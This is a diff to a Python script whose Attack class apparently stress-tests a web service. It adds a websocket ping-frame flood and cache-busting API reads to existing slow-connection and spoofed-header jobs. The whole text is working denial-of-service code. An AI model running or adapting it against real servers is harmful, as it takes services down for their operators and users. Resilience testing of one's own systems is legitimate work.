@@ -29,6 +29,7 @@ HEADERS = {"x-forwarded-for": "192.0.2.66", "authorization": f"Seat {SECRET}"}
 PATIENCE = 30.0  # seconds
 LOOKERS = 60  # sockets that change their language all the time
 HALVES = 100  # connections that never finish a request
+PINGS = b"\x89\x80\0\0\0\0" * 5000  # as a client sends them, with nothing in them
 LANGUAGES = ("en", "de", "nl")
 POINT = (  # of the curve that browsers use: its generator
     "BGsX0fLhLEJH-Lzm5WOkQPJ3A32BLeszoPShOUXYmMKWT-NC4v4af5uO5-tKfA-eFivOM1drMV7Oy7ZAaDe_UfU"
@@ -73,6 +74,7 @@ class Attack:
         jobs: list[Callable[[], Awaitable[None]]] = [
             *[self._come_and_go] * 8,
             *[self._look] * LOOKERS,
+            *[self._ping] * 4,
             *[self._read] * 8,
             *[self._replay] * 4,
             *[self._upload] * 2,
@@ -106,8 +108,18 @@ class Attack:
                 with contextlib.suppress(TimeoutError):
                     await asyncio.wait_for(socket.recv(), 0.2)
 
+    async def _ping(self) -> None:
+        """Over and over, until the server has enough of it."""
+        async with self._socket() as socket:
+            while not socket.transport.is_closing():
+                socket.transport.write(PINGS)
+                await asyncio.sleep(0.02)
+
     async def _read(self) -> None:
+        """Never twice the same."""
         for lang in LANGUAGES:
+            line = time.time_ns() % 1_000_000
+            await self._http(f"/api/tables/{self.table}?lang={lang}&log_from={line}")
             await self._http(f"/api/tables/{self.table}?lang={lang}")
 
     async def _replay(self) -> None:
